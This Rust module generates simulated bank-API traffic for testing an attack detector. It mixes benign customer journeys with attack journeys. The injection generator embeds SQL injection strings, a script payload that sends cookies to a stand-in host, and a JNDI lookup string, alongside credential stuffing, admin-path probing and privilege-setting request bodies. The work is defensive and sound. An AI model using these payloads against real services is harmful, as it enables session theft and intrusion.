//! Seeded user journeys: varied benign ones from many customers and client addresses, and one
//! generator per attack kind. Everything derives from the seed, so a run is reproducible.

use std::fmt;
use std::net::Ipv4Addr;

use rand::seq::IndexedRandom;
use rand::{RngExt, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{Value, json};

use super::bank::{Customer, Directory};

/// The attacks the simulator knows, one per detector and variant.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum AttackKind {
    /// A transfer without the account and balance lookups that always precede it.
    SkippedSteps,
    /// A captured transfer replayed several times from the attacker's own session.
    ReplayedTransfer,
    /// A transfer after a normal journey, with an edited body (amount, extra field, type).
    TamperedTransfer,
    /// Balances of many other customers' accounts (BOLA).
    AccountEnumeration,
    /// Lookups of many phone numbers (BOLA through a lookup).
    PhoneEnumeration,
    /// Paging through all transactions.
    Scraping,
    /// Many logins with many usernames from one client.
    CredentialStuffing,
    /// Requests to endpoints the API does not publish.
    ShadowProbing,
    /// A profile update that sets a privileged field.
    MassAssignment,
    /// SQL, script and traversal payloads in parameters.
    Injection,
    /// Phone-number enumeration spread out and interleaved with normal steps, under any rate.
    LowAndSlow,
    // The kinds below are simulated on the other API styles (`library.rs`, `shop.rs`), not on
    // the bank: they are not in [`AttackKind::ALL`].
    /// One request on another user's object, with a value that neither the session's token
    /// nor any earlier response of the session carried (BOLA from the first request).
    ForeignIdentity,
    /// A value that breaks the format nearly every learned value follows (an e-mail address
    /// without `@`, a 5,000-character name).
    FormatBreak,
    /// An export or listing that returns many times the records the operation normally does.
    MassExport,
    /// An attacker who is caught once and carries on along another path.
    PathChange,
    /// Credential stuffing spread over many addresses, one to three tries each (one session
    /// per address).
    StuffingCampaign,
    /// Calls to an admin or debug endpoint the app serves but honest clients never call.
    DebugEndpoint,
}

impl AttackKind {
    pub const ALL: [AttackKind; 11] = [
        Self::SkippedSteps,
        Self::ReplayedTransfer,
        Self::TamperedTransfer,
        Self::AccountEnumeration,
        Self::PhoneEnumeration,
        Self::Scraping,
        Self::CredentialStuffing,
        Self::ShadowProbing,
        Self::MassAssignment,
        Self::Injection,
        Self::LowAndSlow,
    ];

    pub fn name(self) -> &'static str {
        match self {
            Self::SkippedSteps => "skipped steps",
            Self::ReplayedTransfer => "replayed transfer",
            Self::TamperedTransfer => "tampered transfer",
            Self::AccountEnumeration => "account enumeration",
            Self::PhoneEnumeration => "phone enumeration",
            Self::Scraping => "scraping",
            Self::CredentialStuffing => "credential stuffing",
            Self::ShadowProbing => "shadow endpoint probing",
            Self::MassAssignment => "mass assignment",
            Self::Injection => "injection",
            Self::LowAndSlow => "low-and-slow enumeration",
            Self::ForeignIdentity => "BOLA with a foreign value",
            Self::FormatBreak => "format-breaking value",
            Self::MassExport => "mass export",
            Self::PathChange => "path change after being caught",
            Self::StuffingCampaign => "stuffing campaign (many addresses)",
            Self::DebugEndpoint => "debug endpoint",
        }
    }
}

impl fmt::Display for AttackKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// Benign or one attack kind.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum JourneyKind {
    Benign,
    Attack(AttackKind),
}

/// One HTTP request of a journey.
#[derive(Debug, Clone, PartialEq)]
pub struct Step {
    pub method: http::Method,
    /// Path with the query string already encoded.
    pub path_and_query: String,
    pub body: Option<Value>,
    /// Send the bearer token obtained by the journey's last successful login.
    pub authenticated: bool,
    /// The step is the harmful part of an attack (counted as harm when it reaches the app).
    pub harmful: bool,
    /// Real pause before the step, in milliseconds.
    pub think_ms: u64,
    /// An honest request to a rarely used or newly released operation (reported apart: such
    /// requests must never be refused).
    pub tail: Tail,
}

/// Whether an honest step belongs to the long tail of an API.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Tail {
    #[default]
    No,
    /// An operation honest users use less often while the model learns than any threshold.
    Rare,
    /// An operation a release of the app added after the model matured.
    Released,
}

/// Learning sessions that use a rare operation: two, fewer than any inventory threshold
/// (`learning.minEndpointRequests` is 3 by default).
pub fn rare_learning_sessions(learning: usize) -> Vec<usize> {
    if learning < 4 {
        return Vec::new();
    }
    vec![learning / 4, learning * 3 / 4]
}

/// Honest requests of the long tail.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct TailResult {
    pub requests: usize,
    pub refused: usize,
}

/// A sequence of requests by one client.
#[derive(Debug, Clone, PartialEq)]
pub struct Journey {
    pub id: usize,
    pub kind: JourneyKind,
    /// Unique per journey: the enforcer sees it through `X-Forwarded-For`.
    pub client: Ipv4Addr,
    pub user_agent: &'static str,
    pub steps: Vec<Step>,
}

const USER_AGENTS: [&str; 6] = [
    "BankApp/5.2.1 (iOS 17.4; iPhone14,2)",
    "BankApp/5.2.0 (Android 14; Pixel 7)",
    "BankApp/5.1.9 (Android 13; SM-G991B)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
];

const MEMOS: [&str; 8] = [
    "rent",
    "groceries",
    "Invoice 2291",
    "birthday gift",
    "electricity bill",
    "dinner split",
    "loan repayment",
    "holiday",
];

fn step(
    method: http::Method,
    path_and_query: impl Into<String>,
    body: Option<Value>,
    think_ms: u64,
) -> Step {
    Step {
        method,
        path_and_query: path_and_query.into(),
        body,
        authenticated: true,
        harmful: false,
        think_ms,
        tail: Tail::No,
    }
}

fn login(c: &Customer, password: &str) -> Step {
    Step {
        method: http::Method::POST,
        path_and_query: "/api/v1/login".into(),
        body: Some(json!({ "username": c.username, "password": password })),
        authenticated: false,
        harmful: false,
        think_ms: 0,
        tail: Tail::No,
    }
}

fn accounts() -> Step {
    step(http::Method::GET, "/api/v1/accounts", None, 1)
}

fn balance(account: u64) -> Step {
    step(
        http::Method::GET,
        format!("/api/v1/accounts/{account}/balance"),
        None,
        1,
    )
}

fn transactions(account: u64, page: u32) -> Step {
    step(
        http::Method::GET,
        format!("/api/v1/accounts/{account}/transactions?page={page}&size=10"),
        None,
        1,
    )
}

pub(crate) fn encode_query(value: &str) -> String {
    let mut out = String::with_capacity(value.len() * 3);
    for b in value.bytes() {
        if b.is_ascii_alphanumeric() || matches!(b, b'-' | b'_' | b'.' | b'~') {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

fn lookup(phone: &str) -> Step {
    step(
        http::Method::GET,
        format!("/api/v1/users/lookup?phone={}", encode_query(phone)),
        None,
        2,
    )
}

fn amount(rng: &mut ChaCha8Rng) -> Value {
    let cents: u64 = if rng.random_bool(0.7) {
        rng.random_range(500..=30_000)
    } else {
        rng.random_range(30_000..=250_000)
    };
    json!((cents as f64) / 100.0)
}

fn transfer_body(rng: &mut ChaCha8Rng, from: u64, to: u64) -> Value {
    json!({
        "fromAccount": from.to_string(),
        "toAccount": to.to_string(),
        "amount": amount(rng),
        "currency": if rng.random_bool(0.9) { "EUR" } else { "USD" },
        "memo": *MEMOS.choose(rng).unwrap_or(&"rent"),
    })
}

fn transfer(body: Value) -> Step {
    step(http::Method::POST, "/api/v1/transfers", Some(body), 3)
}

fn other<'a>(rng: &mut ChaCha8Rng, directory: &'a Directory, me: usize) -> &'a Customer {
    let n = directory.customers.len();
    let mut i = rng.random_range(0..n);
    if i == me {
        i = (i + 1) % n;
    }
    &directory.customers[i]
}

/// Tasks a customer may do in one visit (one session): drawn with weights 45/25/15/10/5 %.
const TASKS_PER_VISIT: [(u32, u32); 5] = [(1, 45), (2, 25), (3, 15), (4, 10), (5, 5)];

/// Simulator time is compressed: 1 ms of pause stands for about 1 s of a real customer's.
/// Pause between two tasks of a visit (the customer reads, decides): ≈ 20 s – 2 min.
const BETWEEN_TASKS_MS: std::ops::RangeInclusive<u64> = 20..=120;
/// A longer idle gap inside a visit (the app left open, the phone put away): ≈ 6 – 15 min.
pub const IDLE_GAP_MS: std::ops::RangeInclusive<u64> = 360..=900;
/// Share of task changes that follow a longer idle gap instead of a short pause.
const IDLE_GAP_SHARE: f64 = 0.2;

/// A normal customer's visit: one login, then one to five tasks in random order (checking
/// balances, paying someone, reading the history, the profile, a quick look), with pauses
/// between them and sometimes a long idle gap after which the app may log in again. The
/// bank's token carries the customer as `sub`, so every task of the visit — and every visit of
/// the same customer — lands in the same enforcer session, as in real traffic.
pub fn benign(rng: &mut ChaCha8Rng, directory: &Directory, me: usize) -> Vec<Step> {
    let c = &directory.customers[me];
    let mut steps = Vec::new();
    if rng.random_bool(0.04) {
        steps.push(login(c, "wrong-password"));
    }
    steps.push(login(c, &c.password));
    let tasks = tasks_per_visit(rng);
    for task_number in 0..tasks {
        let mut task = benign_task(rng, directory, me);
        if task_number > 0 {
            // Half the time the app still shows the account list it loaded for an earlier
            // task and goes straight on (only if an earlier task did load it).
            let list_loaded = steps
                .iter()
                .any(|s: &Step| s.path_and_query == "/api/v1/accounts");
            if list_loaded
                && task.len() > 1
                && task
                    .first()
                    .is_some_and(|s| s.path_and_query == "/api/v1/accounts")
                && rng.random_bool(0.5)
            {
                task.remove(0);
            }
            let pause = if rng.random_bool(IDLE_GAP_SHARE) {
                let idle = rng.random_range(IDLE_GAP_MS);
                if rng.random_bool(0.5) {
                    // The app re-authenticates after the idle time (same customer, same `sub`).
                    let mut again = login(c, &c.password);
                    again.think_ms = idle;
                    steps.push(again);
                    1
                } else {
                    idle
                }
            } else {
                rng.random_range(BETWEEN_TASKS_MS)
            };
            if let Some(first) = task.first_mut() {
                first.think_ms = pause;
            }
        }
        steps.extend(task);
    }
    steps
}

/// Tasks of a benign visit: a task starts after a pause of at least the shortest pause
/// between tasks (in-task think times are a few milliseconds).
pub fn task_count(journey: &Journey) -> usize {
    1 + journey
        .steps
        .iter()
        .skip(1)
        .filter(|s| s.think_ms >= *BETWEEN_TASKS_MS.start())
        .count()
}

/// Whether the visit holds a pause of at least `IDLE_GAP_MS`'s start.
pub fn has_idle_gap(journey: &Journey) -> bool {
    journey
        .steps
        .iter()
        .any(|s| s.think_ms >= *IDLE_GAP_MS.start())
}

fn tasks_per_visit(rng: &mut ChaCha8Rng) -> u32 {
    let total: u32 = TASKS_PER_VISIT.iter().map(|(_, w)| w).sum();
    let mut draw = rng.random_range(0..total);
    for (tasks, weight) in TASKS_PER_VISIT {
        if draw < weight {
            return tasks;
        }
        draw -= weight;
    }
    1
}

/// One task of a visit, without the login.
fn benign_task(rng: &mut ChaCha8Rng, directory: &Directory, me: usize) -> Vec<Step> {
    let c = &directory.customers[me];
    let mut steps = Vec::new();
    let own = c.accounts[0];
    match rng.random_range(0..100) {
        // Check balances, perhaps recent transactions.
        0..=29 => {
            steps.push(accounts());
            steps.push(balance(own));
            if c.accounts.len() > 1 && rng.random_bool(0.6) {
                steps.push(balance(c.accounts[1]));
            }
            if rng.random_bool(0.5) {
                steps.push(transactions(own, 1));
                if rng.random_bool(0.4) {
                    steps.push(transactions(own, 2));
                }
            }
        }
        // Pay someone, sometimes a new payee found by phone number.
        30..=54 => {
            steps.push(accounts());
            steps.push(balance(own));
            steps.push(step(http::Method::GET, "/api/v1/payees", None, 2));
            let payee = other(rng, directory, me);
            if rng.random_bool(0.4) {
                steps.push(lookup(&payee.phone));
                steps.push(step(
                    http::Method::POST,
                    "/api/v1/payees",
                    Some(json!({ "name": payee.name, "account": payee.accounts[0].to_string() })),
                    2,
                ));
            }
            let body = transfer_body(rng, own, payee.accounts[0]);
            steps.push(transfer(body));
            if rng.random_bool(0.5) {
                steps.push(balance(own));
            }
        }
        // Read the history of one account.
        55..=74 => {
            steps.push(accounts());
            let account = *c.accounts.choose(rng).unwrap_or(&own);
            for page in 1..=rng.random_range(1..=4u32) {
                steps.push(transactions(account, page));
            }
            if rng.random_bool(0.3) {
                steps.push(balance(account));
            }
        }
        // Look at and maybe update the profile.
        75..=89 => {
            steps.push(step(http::Method::GET, "/api/v1/profile", None, 1));
            if rng.random_bool(0.5) {
                let body = match rng.random_range(0..3) {
                    0 => json!({ "name": format!("{} Jr", c.name) }),
                    1 => json!({ "email": format!("{}@mail.example.org", c.username) }),
                    _ => json!({ "name": c.name, "phone": c.phone }),
                };
                steps.push(step(http::Method::PUT, "/api/v1/profile", Some(body), 3));
            }
            if rng.random_bool(0.5) {
                steps.push(accounts());
            }
        }
        // A quick look.
        _ => {
            steps.push(accounts());
            if rng.random_bool(0.5) {
                steps.push(step(http::Method::GET, "/api/v1/payees", None, 1));
            }
        }
    }
    steps
}

fn harmful(mut s: Step) -> Step {
    s.harmful = true;
    s
}

/// An attack journey of `kind` by customer `me` (stuffing uses no account of its own).
pub fn attack(
    rng: &mut ChaCha8Rng,
    directory: &Directory,
    me: usize,
    kind: AttackKind,
) -> Vec<Step> {
    let c = &directory.customers[me];
    let own = c.accounts[0];
    let mut steps = vec![login(c, &c.password)];
    match kind {
        AttackKind::SkippedSteps => {
            let victim = other(rng, directory, me);
            let body = transfer_body(rng, own, victim.accounts[0]);
            steps.push(harmful(transfer(body)));
            steps.push(accounts());
        }
        AttackKind::ReplayedTransfer => {
            let victim = other(rng, directory, me);
            steps.push(accounts());
            let body = transfer_body(rng, victim.accounts[0], own);
            for _ in 0..4 {
                steps.push(harmful(transfer(body.clone())));
            }
        }
        AttackKind::TamperedTransfer => {
            steps.push(accounts());
            steps.push(balance(own));
            steps.push(step(http::Method::GET, "/api/v1/payees", None, 2));
            let payee = other(rng, directory, me);
            let mut body = transfer_body(rng, own, payee.accounts[0]);
            match rng.random_range(0..4) {
                0 => body["amount"] = json!(950_000.0),
                1 => body["amount"] = json!(-1500.0),
                2 => body["skipLimitCheck"] = json!(true),
                _ => body["amount"] = json!("2500.00 OR 1=1"),
            }
            steps.push(harmful(transfer(body)));
        }
        AttackKind::AccountEnumeration => {
            steps.push(accounts());
            steps.push(balance(own));
            let start = rng.random_range(0..directory.customers.len().saturating_sub(40).max(1));
            for victim in directory.customers.iter().skip(start).take(40) {
                steps.push(harmful(balance(victim.accounts[0])));
            }
        }
        AttackKind::PhoneEnumeration => {
            steps.push(accounts());
            steps.push(step(http::Method::GET, "/api/v1/payees", None, 1));
            let base: u64 = rng.random_range(20_000_000..29_000_000);
            for k in 0..40u64 {
                steps.push(harmful(lookup(&format!("+4915{:08}", base + k))));
            }
        }
        AttackKind::Scraping => {
            steps.push(accounts());
            for page in 1..=120u32 {
                let s = transactions(own, page);
                steps.push(if page > 4 { harmful(s) } else { s });
            }
        }
        AttackKind::CredentialStuffing => {
            steps.clear();
            let start = rng.random_range(0..directory.customers.len().saturating_sub(40).max(1));
            for victim in directory.customers.iter().skip(start).take(40) {
                let mut s = login(victim, "Summer2024!");
                s.harmful = true;
                steps.push(s);
            }
        }
        AttackKind::ShadowProbing => {
            steps.push(accounts());
            for path in [
                "/api/v1/admin/users",
                "/api/v1/internal/config",
                "/api/v1/debug/vars",
                "/api/v1/accounts/export",
                "/api/v2/accounts",
                "/api/v1/users",
                "/actuator/env",
                "/api/v1/admin/transfers",
            ] {
                steps.push(harmful(step(http::Method::GET, path, None, 1)));
            }
        }
        AttackKind::MassAssignment => {
            steps.push(step(http::Method::GET, "/api/v1/profile", None, 1));
            let body = match rng.random_range(0..3) {
                0 => json!({ "name": c.name, "role": "admin" }),
                1 => json!({ "email": c.email, "verified": true, "dailyLimit": 1_000_000 }),
                _ => json!({ "name": c.name, "customerId": "c1000" }),
            };
            steps.push(harmful(step(
                http::Method::PUT,
                "/api/v1/profile",
                Some(body),
                3,
            )));
        }
        AttackKind::Injection => {
            steps.push(accounts());
            match rng.random_range(0..4) {
                0 => steps.push(harmful(step(
                    http::Method::GET,
                    format!(
                        "/api/v1/accounts/{own}/transactions?page={}&size=10",
                        encode_query("1' OR '1'='1")
                    ),
                    None,
                    1,
                ))),
                1 => steps.push(harmful(lookup("' UNION SELECT password FROM users--"))),
                2 => steps.push(harmful(step(
                    http::Method::PUT,
                    "/api/v1/profile",
                    Some(
                        json!({ "name": "<script>fetch('//x.example/'+document.cookie)</script>" }),
                    ),
                    2,
                ))),
                _ => steps.push(harmful(step(
                    http::Method::GET,
                    format!(
                        "/api/v1/accounts/{own}/transactions?page=1&size={}",
                        encode_query("${jndi:ldap://x.example/a}")
                    ),
                    None,
                    1,
                ))),
            }
        }
        AttackKind::LowAndSlow => {
            steps.push(accounts());
            steps.push(balance(own));
            for k in 0..16 {
                let victim = other(rng, directory, me);
                let mut s = harmful(lookup(&victim.phone));
                s.think_ms = rng.random_range(20..60);
                steps.push(s);
                if k % 4 == 3 {
                    steps.push(balance(own));
                }
            }
        }
        // Simulated on the other API styles only; `generate` never asks the bank for them.
        AttackKind::ForeignIdentity
        | AttackKind::FormatBreak
        | AttackKind::MassExport
        | AttackKind::PathChange
        | AttackKind::StuffingCampaign
        | AttackKind::DebugEndpoint => {}
    }
    steps
}

/// The journeys of one run: `benign` benign journeys then `per_kind` of every attack kind,
/// each with its own customer and client address; shuffled when `shuffle` is set.
pub fn generate(
    seed: u64,
    directory: &Directory,
    first_customer: usize,
    benign_count: usize,
    per_kind: usize,
    shuffle: bool,
) -> Vec<Journey> {
    generate_with_returning(
        seed,
        directory,
        first_customer,
        &[],
        benign_count,
        per_kind,
        shuffle,
    )
    .0
}

/// As [`generate`], with returning customers: first one benign visit by each customer of
/// `returning` (customers who visited before, in an earlier phase: the same identity, hence
/// the same token `sub`, from a client address of its own as every journey), then `new_count`
/// visits of new customers from `first_customer` on, then `per_kind` of every attack kind (by
/// the customers after the new ones). With no returning customer it is [`generate`]. Returns
/// the journeys and the customer (index in `directory`) of each journey, by journey id.
pub fn generate_with_returning(
    seed: u64,
    directory: &Directory,
    first_customer: usize,
    returning: &[usize],
    new_count: usize,
    per_kind: usize,
    shuffle: bool,
) -> (Vec<Journey>, Vec<usize>) {
    let mut rng = ChaCha8Rng::seed_from_u64(seed);
    let mut journeys = Vec::new();
    let mut customers = Vec::new();
    let mut customer = first_customer;
    let mut next_id = 0usize;
    let mut push =
        |kind: JourneyKind, steps: Vec<Step>, rng: &mut ChaCha8Rng, journeys: &mut Vec<Journey>| {
            let id = next_id;
            next_id += 1;
            let base: u32 = if matches!(kind, JourneyKind::Benign) {
                0x0A00_0000
            } else {
                0xC633_6400
            };
            // Unique across the phases of a run: phases use disjoint customer ranges, and a
            // phase's journeys number at most the customers of its range.
            let raw = base.wrapping_add(
                u32::try_from(first_customer + id + 1).unwrap_or(u32::MAX) & 0x00FF_FFFF,
            );
            journeys.push(Journey {
                id,
                kind,
                client: Ipv4Addr::from(raw),
                user_agent: USER_AGENTS.choose(rng).copied().unwrap_or(USER_AGENTS[0]),
                steps,
            });
        };
    for &back in returning {
        let me = back % directory.customers.len();
        let steps = benign(&mut rng, directory, me);
        customers.push(me);
        push(JourneyKind::Benign, steps, &mut rng, &mut journeys);
    }
    for _ in 0..new_count {
        let me = customer % directory.customers.len();
        let steps = benign(&mut rng, directory, me);
        customers.push(me);
        customer += 1;
        push(JourneyKind::Benign, steps, &mut rng, &mut journeys);
    }
    for kind in AttackKind::ALL {
        for _ in 0..per_kind {
            let me = customer % directory.customers.len();
            let steps = attack(&mut rng, directory, me, kind);
            customers.push(me);
            customer += 1;
            push(JourneyKind::Attack(kind), steps, &mut rng, &mut journeys);
        }
    }
    if shuffle {
        use rand::seq::SliceRandom;
        journeys.shuffle(&mut rng);
    }
    (journeys, customers)
}

/// The returning customers of a run's later phase: `count` of the `earlier` customers
/// `0..earlier` (each at most once), drawn from `seed`.
pub fn returning_customers(seed: u64, earlier: usize, count: usize) -> Vec<usize> {
    use rand::seq::SliceRandom;
    let mut rng = ChaCha8Rng::seed_from_u64(seed ^ 0x2e70_2e70);
    let mut customers: Vec<usize> = (0..earlier).collect();
    customers.shuffle(&mut rng);
    customers.truncate(count);
    customers
}

/// A yearly statement download: the account list, then the statement of one account (an
/// operation of the long tail: a customer asks for it about once a year).
fn statement_task(rng: &mut ChaCha8Rng, c: &Customer) -> Vec<Step> {
    let account = *c.accounts.choose(rng).unwrap_or(&c.accounts[0]);
    let mut statement = step(
        http::Method::GET,
        format!("/api/v1/accounts/{account}/statement?year=2025"),
        None,
        2,
    );
    statement.tail = Tail::Rare;
    vec![accounts(), statement]
}

/// An e-mail change: the profile, then the new address (rare: a customer changes it once in
/// years).
fn email_change_task(rng: &mut ChaCha8Rng, c: &Customer) -> Vec<Step> {
    let email = format!(
        "{}.{}@post.example.net",
        c.username,
        rng.random_range(1..99)
    );
    let mut change = step(
        http::Method::PUT,
        "/api/v1/profile/email",
        Some(json!({ "email": email })),
        3,
    );
    change.tail = Tail::Rare;
    vec![step(http::Method::GET, "/api/v1/profile", None, 1), change]
}

/// Share of honest mixed-phase sessions that use a rare operation (every simulated API).
pub const RARE_SHARE: f64 = 0.03;
/// Share of balance checks after the release that go on to the card view it added.
pub const RELEASED_SHARE: f64 = 0.3;

/// Where the long tail goes in a bank evaluation's benign visits.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TailPlan<'a> {
    /// The learning phase: the visits at these positions (of the benign visits) do both rare
    /// tasks, so that each rare operation succeeds fewer times than any inventory threshold.
    Learning(&'a [usize]),
    /// After maturity: [`RARE_SHARE`] of the visits do one rare task, and a balance check goes
    /// on to the released card view with probability [`RELEASED_SHARE`].
    Mixed,
}

/// Adds the long tail to the benign visits of `journeys` (made by
/// [`generate_with_returning`], `customers` its customer of each journey by journey id): rare
/// tasks appended after a pause, released card views after balance checks. Its own random
/// stream (from `seed`), so the visits it leaves alone stay as [`generate_with_returning`]
/// made them.
pub fn add_tail(
    journeys: &mut [Journey],
    directory: &Directory,
    customers: &[usize],
    seed: u64,
    plan: TailPlan<'_>,
) {
    let mut rng = ChaCha8Rng::seed_from_u64(seed ^ 0x7a11_7a11);
    let mut benign: Vec<&mut Journey> = journeys
        .iter_mut()
        .filter(|j| j.kind == JourneyKind::Benign)
        .collect();
    // Visits in the order `generate_with_returning` made them (its benign visits come first),
    // whatever the shuffle.
    benign.sort_by_key(|j| j.id);
    for (k, journey) in benign.into_iter().enumerate() {
        let Some(&me) = customers.get(journey.id) else {
            continue;
        };
        let c = &directory.customers[me % directory.customers.len()];
        let rare_tasks = match plan {
            TailPlan::Learning(at) if at.contains(&k) => {
                vec![statement_task(&mut rng, c), email_change_task(&mut rng, c)]
            }
            TailPlan::Learning(_) => Vec::new(),
            TailPlan::Mixed if rng.random_bool(RARE_SHARE) => {
                if rng.random_bool(0.5) {
                    vec![statement_task(&mut rng, c)]
                } else {
                    vec![email_change_task(&mut rng, c)]
                }
            }
            TailPlan::Mixed => Vec::new(),
        };
        if plan == TailPlan::Mixed {
            let mut steps = Vec::with_capacity(journey.steps.len() + 2);
            for s in journey.steps.drain(..) {
                let account = s
                    .path_and_query
                    .strip_prefix("/api/v1/accounts/")
                    .and_then(|rest| rest.strip_suffix("/balance"))
                    .map(str::to_owned);
                steps.push(s);
                if let Some(account) = account
                    && rng.random_bool(RELEASED_SHARE)
                {
                    let mut cards = step(
                        http::Method::GET,
                        format!("/api/v1/accounts/{account}/cards"),
                        None,
                        2,
                    );
                    cards.tail = Tail::Released;
                    steps.push(cards);
                }
            }
            journey.steps = steps;
        }
        for mut task in rare_tasks {
            if let Some(first) = task.first_mut() {
                first.think_ms = rng.random_range(BETWEEN_TASKS_MS);
            }
            journey.steps.extend(task);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn generation_is_deterministic_and_varied() {
        let directory = Directory::generate(300);
        let a = generate(7, &directory, 0, 100, 2, true);
        let b = generate(7, &directory, 0, 100, 2, true);
        assert_eq!(a, b);
        assert_eq!(a.len(), 100 + 2 * AttackKind::ALL.len());
        let shapes: std::collections::HashSet<Vec<String>> = a
            .iter()
            .filter(|j| j.kind == JourneyKind::Benign)
            .map(|j| {
                j.steps
                    .iter()
                    .map(|s| {
                        format!(
                            "{} {}",
                            s.method,
                            s.path_and_query.split('?').next().unwrap_or("")
                        )
                    })
                    .collect()
            })
            .collect();
        assert!(
            shapes.len() > 30,
            "only {} distinct benign journeys",
            shapes.len()
        );
        let clients: std::collections::HashSet<Ipv4Addr> = a.iter().map(|j| j.client).collect();
        assert_eq!(clients.len(), a.len());
    }

    #[test]
    fn returning_customers_come_back_and_the_tail_is_their_own() {
        let directory = Directory::generate(200);
        // Without returning customers it is `generate`.
        assert_eq!(
            generate_with_returning(5, &directory, 50, &[], 30, 1, true).0,
            generate(5, &directory, 50, 30, 1, true)
        );
        let returning = returning_customers(5, 50, 20);
        assert_eq!(returning, returning_customers(5, 50, 20));
        assert_eq!(returning.len(), 20);
        assert!(returning.iter().all(|c| *c < 50));
        assert_eq!(
            returning
                .iter()
                .collect::<std::collections::HashSet<_>>()
                .len(),
            20
        );
        let (mut visits, customers) =
            generate_with_returning(6, &directory, 50, &returning, 30, 1, true);
        assert_eq!(visits.len(), 50 + AttackKind::ALL.len());
        assert_eq!(customers.len(), visits.len());
        assert_eq!(&customers[..20], &returning[..]);
        assert_eq!(customers[20..50], (50..80).collect::<Vec<_>>());
        // Every visit of the tail plan does both rare tasks, on the visiting customer's own
        // account and profile.
        let every: Vec<usize> = (0..50).collect();
        add_tail(
            &mut visits,
            &directory,
            &customers,
            6,
            TailPlan::Learning(&every),
        );
        for v in visits.iter().filter(|v| v.kind == JourneyKind::Benign) {
            let c = &directory.customers[customers[v.id]];
            let login = v.steps.iter().find(|s| s.path_and_query == "/api/v1/login");
            assert_eq!(
                login.and_then(|s| s.body.as_ref()).map(|b| &b["username"]),
                Some(&json!(c.username))
            );
            let statement = v
                .steps
                .iter()
                .find(|s| s.path_and_query.contains("/statement"))
                .map(|s| s.path_and_query.as_str())
                .unwrap_or_default();
            assert!(
                c.accounts
                    .iter()
                    .any(|a| statement.starts_with(&format!("/api/v1/accounts/{a}/"))),
                "{statement:?} is not {}'s",
                c.username
            );
            let email = v
                .steps
                .iter()
                .find(|s| s.path_and_query == "/api/v1/profile/email")
                .and_then(|s| s.body.as_ref())
                .and_then(|b| b["email"].as_str())
                .unwrap_or_default();
            assert!(email.starts_with(&format!("{}.", c.username)), "{email}");
        }
    }

    #[test]
    fn benign_visits_hold_several_tasks_with_pauses_and_idle_gaps() {
        let directory = Directory::generate(400);
        let visits = generate(11, &directory, 0, 400, 0, false);
        let logins = |j: &Journey| {
            j.steps
                .iter()
                .filter(|s| {
                    s.path_and_query == "/api/v1/login"
                        && s.body
                            .as_ref()
                            .is_some_and(|b| b["password"] != "wrong-password")
                })
                .count()
        };
        // A task boundary is a pause longer than any in-task think time.
        let tasks = |j: &Journey| {
            1 + j
                .steps
                .iter()
                .skip(1)
                .filter(|s| s.think_ms >= 20 && s.path_and_query != "/api/v1/login")
                .count()
                + j.steps
                    .iter()
                    .skip(1)
                    .filter(|s| s.path_and_query == "/api/v1/login" && s.think_ms >= 20)
                    .count()
        };
        let mut by_count = [0usize; 6];
        for v in &visits {
            let n = tasks(v);
            assert_eq!(task_count(v), n);
            assert!((1..=5).contains(&n), "{n} tasks: {v:?}");
            by_count[n] += 1;
            assert!(logins(v) >= 1);
        }
        // Every count occurs, single-task visits are the most common but not the majority of
        // requests.
        assert!(by_count[1..].iter().all(|n| *n > 0), "{by_count:?}");
        assert!(
            by_count[1] > by_count[2] && by_count[1] < 250,
            "{by_count:?}"
        );
        let idle = visits
            .iter()
            .flat_map(|v| &v.steps)
            .filter(|s| IDLE_GAP_MS.contains(&s.think_ms))
            .count();
        let relogins = visits.iter().filter(|v| logins(v) > 1).count();
        assert!(
            idle > 20 && relogins > 5,
            "{idle} idle gaps, {relogins} re-logins"
        );
        // A later task can start without the account list (the app still shows it).
        let later_starts: std::collections::HashSet<&str> = visits
            .iter()
            .flat_map(|v| v.steps.iter().skip(2))
            .filter(|s| s.think_ms >= 20 && s.path_and_query != "/api/v1/login")
            .map(|s| s.path_and_query.split('?').next().unwrap_or(""))
            .collect();
        assert!(later_starts.len() >= 3, "{later_starts:?}");
    }
}
